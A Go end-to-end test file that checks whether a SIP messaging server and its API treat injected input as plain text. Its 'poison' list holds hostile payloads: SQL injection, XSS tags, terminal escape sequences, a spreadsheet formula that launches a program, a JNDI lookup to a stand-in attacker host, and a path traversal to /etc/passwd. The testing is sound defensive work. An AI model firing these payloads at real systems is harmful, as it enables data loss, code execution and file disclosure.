package e2e

import (
	"bytes"
	"crypto/tls"
	"encoding/csv"
	"encoding/json"
	"io"
	"net/http"
	"os"
	"strings"
	"testing"

	"github.com/sparkleim/sparkle/cmd/sipload/agent"
)

// poison is text that means something to a database, a browser, a terminal, a
// spreadsheet or a log.
var poison = []string{
	`'; DROP TABLE messages; --`,
	`" OR "1"="1`,
	`<script>alert(1)</script>`,
	`<img src=x onerror=alert(1)>`,
	"\x1b[31mred\x1b[0m\x1b]0;title\x07",
	"\u009b31m\u202eevil\u2066",
	`=cmd|' /C calc'!A0`,
	`${jndi:ldap://evil.example/a}`,
	`%s%s%n%00`,
	`../../../../etc/passwd`,
	`NEAR(a b) AND * OR "`,
}

// Whatever users write into names, programs, ids and texts arrives as it was
// written and is nothing but text in tables, JSON, CSV and logs.
func TestInjection(t *testing.T) {
	t.Parallel()
	s := startOffice(t, nil)
	bob := s.recorder(t, "bob", "urn:uuid:00000000-0000-4000-8000-0000000000b4")
	for _, p := range poison {
		name := strings.NewReplacer(`\`, `\\`, `"`, `\"`).Replace(strings.Map(dropControls, p))
		conn := &tap{Conn: s.dialFrom(t, "tls", "127.0.0.1"), change: func(b []byte) []byte {
			b = bytes.Replace(b, []byte("User-Agent: sipload"), []byte("User-Agent: "+strings.Map(dropControls, p)), 1)
			return bytes.Replace(b, []byte("From: <"), []byte(`From: "`+name+`" <`), 1)
		}}
		alice := s.agentOn(t, "alice", "tls", conn)
		alice.Instance = "urn:uuid:00000000-0000-4000-8000-0000000000a4"
		if _, err := alice.Register(short(t), 600); err != nil {
			t.Fatalf("%q: %v", p, err)
		}
		res, err := alice.Do(short(t), &agent.Request{Method: "MESSAGE", URI: "sip:bob@example.test", CallID: callID(p), ContentType: "text/plain", Body: p})
		if err != nil || res.Status() != 202 {
			t.Errorf("%q: %v", p, err)
		}
	}
	for _, p := range poison {
		eventually(t, limit, "bob has it as it was written: "+p, func() bool { return bob.has(p) })
	}

	tables := ""
	for _, args := range [][]string{{"message", "search"}, {"device", "list"}, {"user", "list"}, {"message", "search", "script"}} {
		tables += s.sparkle(t, args...)
	}
	for _, args := range [][]string{{"message", "search", "--json"}, {"device", "list", "--json"}} {
		out := s.sparkle(t, args...)
		if !json.Valid([]byte(out)) {
			t.Errorf("%v is no JSON:\n%s", args, out)
		}
		if strings.ContainsAny(out, "\x1b\x07\u009b") {
			t.Errorf("%v moves the cursor: %q", args, out)
		}
	}
	log, err := os.ReadFile(s.log.Name())
	if err != nil {
		t.Fatal(err)
	}
	for what, text := range map[string]string{"a table": tables, "the log": string(log)} {
		if strings.ContainsAny(text, "\x1b\x07\u009b\u202e\u2066") {
			t.Errorf("%s moves the cursor or turns the line round:\n%q", what, text)
		}
	}
	rows, err := csv.NewReader(strings.NewReader(s.sparkle(t, "message", "export", "--format", "csv"))).ReadAll()
	if err != nil || len(rows) != len(poison)+1 {
		t.Errorf("%d rows of CSV, %v", len(rows), err)
	}
	if out := s.sparkle(t, "verify"); !strings.Contains(out, "no problems") {
		t.Errorf("verify: %s", out)
	}
	s.stillServes(t)
}

// dropControls removes what no SIP header may carry.
func dropControls(r rune) rune {
	if r < ' ' || r == 0x7f {
		return -1
	}
	return r
}

// callID makes a text a Call-ID, with what its grammar allows (RFC 3261 §25.1).
func callID(s string) string {
	return strings.Map(func(r rune) rune {
		if r > ' ' && r < 0x7f && !strings.ContainsRune("=;&,$#@|^", r) {
			return r
		}
		return -1
	}, s) + agent.NewID()
}

// The API takes paths and parameters for what they are, and what it answers is
// never a page in which a browser would run something.
func TestInjectionIntoAPI(t *testing.T) {
	t.Parallel()
	s := startOffice(t, nil)
	var made struct{ Secret string }
	if err := json.Unmarshal([]byte(s.sparkle(t, "token", "add", "t", "--json")), &made); err != nil {
		t.Fatal(err)
	}
	client := &http.Client{Transport: &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true}}}
	for _, p := range append(poison, "%2e%2e%2f", "alice%00", strings.Repeat("a", 5000)) {
		for _, path := range []string{"/v1/users/", "/v1/messages/", "/v1/users?match=", "/v1/messages/search?text=", "/v1/messages/search?user=", "/v1/devices?user="} {
			req, err := http.NewRequest(http.MethodGet, "https://"+s.addr("https")+path+urlEscape(p), nil)
			if err != nil {
				t.Fatal(err)
			}
			req.Header.Set("Authorization", "Bearer "+made.Secret)
			res, err := client.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			b, _ := io.ReadAll(res.Body)
			res.Body.Close()
			if res.StatusCode >= 500 {
				t.Errorf("%s%s: %d %s", path, p, res.StatusCode, b)
			}
			if kind := res.Header.Get("Content-Type"); strings.HasPrefix(kind, "text/html") && bytes.Contains(b, []byte("<script>alert")) {
				t.Errorf("%s%s: %s", path, p, b)
			}
		}
	}
}

// urlEscape escapes every byte that is not a letter or a digit.
func urlEscape(s string) string {
	const hex = "0123456789ABCDEF"
	var b strings.Builder
	for i := range len(s) {
		if c := s[i]; 'a' <= c && c <= 'z' || 'A' <= c && c <= 'Z' || '0' <= c && c <= '9' {
			b.WriteByte(c)
		} else {
			b.Write([]byte{'%', hex[c>>4], hex[c&15]})
		}
	}
	return b.String()
}
